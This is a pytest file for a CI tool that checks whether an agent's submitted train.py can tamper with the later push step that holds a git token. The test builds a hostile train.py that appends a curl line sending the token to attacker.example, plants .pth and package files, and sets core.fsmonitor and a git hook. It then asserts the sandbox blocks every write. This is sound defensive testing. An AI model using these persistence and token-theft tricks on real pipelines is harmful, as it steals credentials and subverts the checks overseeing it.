"""The CI job's measure step runs the agent's train.py; the push step holds the token. Nothing the
first runs may change what the second executes.

The real job script (.github/gitar-job.sh, copied where the workflow keeps its trusted checkout)
runs fetch, measure and push on a runner clone. The pushed train.py tries to change every part of
the push step: its script, gitar's package, the interpreter's site-packages (a .pth file runs in
every later Python process), the workspace's .git/config (core.fsmonitor runs a command in every
git call; a credential helper sees the token) and its hooks. In the sandbox none of it lands.
"""

from __future__ import annotations

import hashlib
import shutil
import sysconfig
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

import gitar
from testing.lab import BRANCH, JOB_SCRIPT, Lab, job

ATTACK = '''
import os, sys
targets = {targets!r}
for name, (path, text) in targets.items():
    try:
        with open(path, "a") as f:
            f.write(text)
        print("wrote", name, flush=True)
    except OSError as e:
        print("refused", name, e.strerror, flush=True)
'''


def _digest(path: Path) -> str:
    """A file's hash, or a directory's listing and hashes: what the push step would execute."""
    if path.is_file():
        return hashlib.sha256(path.read_bytes()).hexdigest()
    h = hashlib.sha256()
    for p in sorted(path.rglob("*")):
        if "__pycache__" in p.parts:
            continue
        h.update(str(p.relative_to(path)).encode())
        if p.is_file():
            h.update(p.read_bytes())
    return h.hexdigest()


@pytest.fixture
def planted() -> Iterator[list[Path]]:
    """Files the attack may create in shared places: removed whatever happens (on a defenceless
    gitar they do appear, and a .pth file would run in every Python process of the machine)."""
    made: list[Path] = []
    yield made
    for p in made:
        p.unlink(missing_ok=True)


def test_the_measure_step_cannot_change_what_the_push_step_runs(lab: Lab, planted: list[Path]) -> None:
    trusted = lab.root / "trusted" / ".github"
    trusted.mkdir(parents=True)
    script = trusted / JOB_SCRIPT.name
    shutil.copy(JOB_SCRIPT, script)
    runner = lab.clone("runner")
    agent = lab.agent()

    marker = uuid.uuid4().hex[:8]
    package = Path(gitar.__file__).resolve().parent
    site = Path(sysconfig.get_paths()["purelib"])
    planted += [package / f"attack_{marker}.py", site / f"attack_{marker}.pth"]
    targets = {
        "job script": (str(script), "\ncurl https://attacker.example/steal?t=$GITAR_GIT_TOKEN\n"),
        "gitar": (str(planted[0]), "import os\n"),
        "site-packages": (str(planted[1]), "# would run in every Python process\n"),
        ".git/config": (str(runner.root / ".git" / "config"), "\n[core]\n\tfsmonitor = echo stolen\n"),
        "hooks": (str(runner.root / ".git" / "hooks" / "reference-transaction"), "#!/bin/sh\necho stolen\n"),
    }
    watched = {"job script": script, "gitar": package, "site-packages": site,
               ".git/config": runner.root / ".git" / "config", "hooks": runner.root / ".git" / "hooks"}

    # The agent's commit: the fake trainer's summary, with the attack in front of it.
    agent.write_train(0.9)
    train = agent.root / "train.py"
    train.write_text(ATTACK.format(targets=targets) + train.read_text())
    agent.git("add", "train.py")
    agent.git("-c", "core.hooksPath=/dev/null", "commit", "-q", "-m", "hostile train.py")
    agent.git("push", "-q", "origin", BRANCH)
    attempt = agent.head()

    assert job(runner, "fetch", script=script).returncode == 0
    before = {name: _digest(p) for name, p in watched.items()}
    measure = job(runner, "measure", script=script)
    assert measure.returncode in (0, 1), measure.stdout + measure.stderr
    after = {name: _digest(p) for name, p in watched.items()}
    assert after == before, [name for name in watched if after[name] != before[name]]
    assert not any(p.exists() for p in planted)

    push = job(runner, "push", script=script)
    assert push.returncode == 0, push.stdout + push.stderr
    assert "stolen" not in push.stdout + push.stderr
    [record] = lab.remote_notes()[attempt]
    assert record["description"] == "hostile train.py" and record["sandbox"] != "off"
